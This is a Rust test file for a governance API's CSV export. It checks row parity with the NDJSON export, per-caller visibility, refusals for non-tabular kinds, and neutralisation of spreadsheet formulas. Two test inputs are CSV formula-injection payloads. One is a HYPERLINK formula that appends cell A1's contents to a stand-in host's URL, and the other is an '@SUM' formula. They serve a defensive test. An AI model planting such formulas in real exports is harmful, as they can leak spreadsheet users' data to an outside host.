//! Bulk export as CSV (issue 18): the tabular kinds, the same records as the NDJSON export for
//! each caller, a header row, cells a spreadsheet cannot run and a CSV reader reads back as written.

use governance_tests::{on_both_backends, Backend, TestApp};
use serde_json::{json, Value};

use crate::fixtures::create;

/// Every kind but boards and records of decision is tabular.
const TABULAR: [&str; 12] = [
    "collaboration-agreements",
    "actions",
    "delegations",
    "schemes",
    "forces",
    "corporations-sole",
    "organisations",
    "people",
    "posts",
    "appointments",
    "interests",
    "gifts-and-hospitality",
];

fn demo(backend: Backend) -> TestApp {
    governance_tests::spawn(backend, governance_tests::Options { demo: true, ..Default::default() })
}

fn export(app: &TestApp, path: &str, token: Option<&str>) -> governance_tests::Response {
    let mut request = app.get(path);
    if let Some(token) = token {
        request = request.token(token);
    }
    request.send()
}

/// The records of an NDJSON export.
fn ndjson(app: &TestApp, kind: &str, token: Option<&str>) -> Vec<Value> {
    let response = export(app, &format!("/api/v1/exports/{kind}"), token).expect(200);
    response
        .text
        .lines()
        .map(|line| serde_json::from_str(line).unwrap_or_else(|e| panic!("{kind}: {line:?}: {e}")))
        .collect()
}

/// The rows of a CSV export (the header first), read by RFC 4180's rules.
fn csv(app: &TestApp, kind: &str, token: Option<&str>) -> Vec<Vec<String>> {
    let response = export(app, &format!("/api/v1/exports/{kind}?format=csv"), token).expect(200);
    assert_eq!(response.header("content-type"), Some("text/csv; charset=utf-8"), "{kind}");
    assert!(response.header("feed-cursor").and_then(|c| c.parse::<i64>().ok()).is_some(), "{kind}");
    assert!(response.text.ends_with("\r\n"), "{kind}: rows end in CRLF");
    read_csv(&response.text)
}

/// A small RFC 4180 reader: fields separated by commas, records by CRLF, a quoted field may hold
/// commas, line breaks and doubled quotes.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut field) = (Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => {
                assert!(c != '"' && c != '\n' && c != '\r', "an unquoted field holds {c:?}: {text}");
                field.push(c);
            }
        }
    }
    assert!(!quoted && field.is_empty() && row.is_empty(), "the CSV ends mid-record: {text:?}");
    rows
}

/// What a cell must read for a field of an NDJSON record, by the documented rules.
fn cell_for(value: Option<&Value>) -> String {
    match value {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(text)) if text.starts_with(['=', '+', '-', '@', '\t', '\r']) => format!("'{text}"),
        Some(Value::String(text)) => text.clone(),
        Some(other) => other.to_string(),
    }
}

/// The CSV's rows are the NDJSON's records, in the same order, one cell per column.
fn assert_same_records(kind: &str, rows: &[Vec<String>], records: &[Value]) {
    let header = &rows[0];
    assert_eq!(rows.len() - 1, records.len(), "{kind}: not as many rows as records");
    for (row, record) in rows[1..].iter().zip(records) {
        let fields = record.as_object().unwrap_or_else(|| panic!("{kind}: {record}"));
        let mut names: Vec<&String> = fields.keys().collect();
        let mut columns: Vec<&String> = header.iter().collect();
        names.sort();
        columns.sort();
        assert_eq!(columns, names, "{kind}: the columns are the record's fields");
        assert_eq!(row.len(), header.len(), "{kind}: {row:?}");
        for (column, cell) in header.iter().zip(row) {
            let value = fields.get(column);
            match value {
                // Nested values are compact JSON: compared as JSON.
                Some(nested @ (Value::Array(_) | Value::Object(_))) => {
                    let read: Value =
                        serde_json::from_str(cell).unwrap_or_else(|e| panic!("{kind}.{column}: {cell}: {e}"));
                    assert_eq!(&read, nested, "{kind}.{column}");
                    assert!(!cell.contains(": ") && !cell.contains(", "), "{kind}.{column} is compact: {cell}");
                }
                _ => assert_eq!(cell, &cell_for(value), "{kind}.{column} of {}", record["id"]),
            }
        }
    }
}

/// For each caller, each tabular kind's CSV holds exactly the records (and the values) of its NDJSON
/// export, with the documented header; a record the caller may not see (a PA in a non-public post,
/// anonymously; a withheld register entry outside the keeping organisation) is in neither.
fn a_csv_export_is_the_ndjson_export_as_rows(backend: Backend) {
    let app = demo(backend);
    let member = app.token("west-mercia-opcc", &["reader"]);
    let outsider = app.token("derbyshire-opcc", &["reader"]);
    let admin = app.admin();
    for kind in TABULAR {
        let mut sizes = Vec::new();
        for token in [Some(admin.as_str()), Some(member.as_str()), Some(outsider.as_str()), None] {
            let ndjson_response = export(&app, &format!("/api/v1/exports/{kind}"), token);
            if ndjson_response.status != 200 {
                let response = export(&app, &format!("/api/v1/exports/{kind}?format=csv"), token);
                assert_eq!(response.status, ndjson_response.status, "{kind}: refused alike: {}", response.text);
                continue;
            }
            let records = ndjson(&app, kind, token);
            let rows = csv(&app, kind, token);
            assert_same_records(kind, &rows, &records);
            sizes.push(records.len());
        }
        assert!(sizes.iter().any(|n| *n > 0), "the demo has {kind}");
    }

    // The columns are stable and documented: the forces' header, exactly.
    let rows = csv(&app, "forces", None);
    assert_eq!(rows[0], ["id", "slug", "name", "police_area", "ends_on", "version", "created_at", "updated_at"]);

    // Visibility: the PA's name is not published; signed-in callers see it, in both formats.
    let has = |rows: &[Vec<String>], text: &str| rows.iter().flatten().any(|cell| cell.contains(text));
    let names = |records: &[Value], text: &str| records.iter().any(|r| r.to_string().contains(text));
    assert!(has(&csv(&app, "people", Some(&outsider)), "Alison Rixom"));
    assert!(names(&ndjson(&app, "people", Some(&outsider)), "Alison Rixom"));
    assert!(!has(&csv(&app, "people", None), "Alison Rixom"), "not published: absent from the CSV");
    assert!(!names(&ndjson(&app, "people", None), "Alison Rixom"), "not published: absent from the NDJSON");
    // A withheld register entry: its text reaches its keeping organisation only.
    let withheld = "Residential property in the police area";
    assert!(has(&csv(&app, "interests", Some(&member)), withheld));
    for token in [Some(outsider.as_str()), None] {
        assert!(!has(&csv(&app, "interests", token), withheld), "withheld: absent from the CSV");
        assert!(!names(&ndjson(&app, "interests", token), withheld), "withheld: absent from the NDJSON");
    }
}

/// Boards and records of decision are NDJSON only: CSV is refused 422 naming `/query/format`, for
/// every caller; a format the operation does not take is a malformed request (400).
fn csv_is_refused_for_kinds_that_are_not_tabular(backend: Backend) {
    let app = demo(backend);
    let admin = app.admin();
    for kind in ["boards", "records-of-decision"] {
        for token in [Some(admin.as_str()), None] {
            let problem = export(&app, &format!("/api/v1/exports/{kind}?format=csv"), token)
                .expect_problem(422, "export.not_tabular");
            assert_eq!(problem["errors"][0]["pointer"], "/query/format", "{problem}");
            assert_eq!(problem["errors"][0]["code"], "export.not_tabular", "{problem}");
        }
        let response = export(&app, &format!("/api/v1/exports/{kind}?format=ndjson"), Some(&admin)).expect(200);
        assert!(response.header("content-type").unwrap_or_default().starts_with("application/x-ndjson"));
    }
    export(&app, "/api/v1/exports/forces?format=xlsx", None).expect_problem(400, "validation.failed");
    export(&app, "/api/v1/exports/forces?fromat=csv", None).expect_problem(400, "validation.failed");
    export(&app, "/api/v1/exports/minutes?format=csv", None).expect_problem(404, "not_found");
}

/// Text a spreadsheet would run as a formula is neutralised with `'`, and a cell holding commas,
/// quotes and a line break reads back as written.
fn csv_cells_are_safe_in_a_spreadsheet_and_read_back_as_written(backend: Backend) {
    let app = demo(backend);
    let admin = app.admin();
    let formula = "=HYPERLINK(\"https://example.invalid/?x=\"&A1,\"Open\")";
    let awkward = "Smith, Jo \"JJ\"\nsecond line, too";
    let at = "@SUM(1+1)";
    let mut ids = Vec::new();
    for name in [formula, awkward, at] {
        ids.push(create(&app, &admin, "/api/v1/people", json!({"full_name": name}))["id"].clone());
    }
    let response = export(&app, "/api/v1/exports/people?format=csv", Some(&admin)).expect(200);
    assert!(!response.text.contains(",=HYPERLINK") && !response.text.contains("\"=HYPERLINK"), "{}", response.text);
    let rows = read_csv(&response.text);
    let name_column = rows[0].iter().position(|c| c == "full_name").unwrap_or_default();
    let id_column = rows[0].iter().position(|c| c == "id").unwrap_or_default();
    let name_of = |id: &Value| -> String {
        rows.iter()
            .find(|row| Some(row[id_column].as_str()) == id.as_str())
            .map(|row| row[name_column].clone())
            .unwrap_or_else(|| panic!("{id} is not exported"))
    };
    assert_eq!(name_of(&ids[0]), format!("'{formula}"), "a formula is prefixed with '");
    assert_eq!(name_of(&ids[1]), awkward, "commas, quotes and a line break read back as written");
    assert_eq!(name_of(&ids[2]), format!("'{at}"));
    assert_same_records("people", &rows, &ndjson(&app, "people", Some(&admin)));
}

on_both_backends!(
    a_csv_export_is_the_ndjson_export_as_rows,
    csv_is_refused_for_kinds_that_are_not_tabular,
    csv_cells_are_safe_in_a_spreadsheet_and_read_back_as_written
);
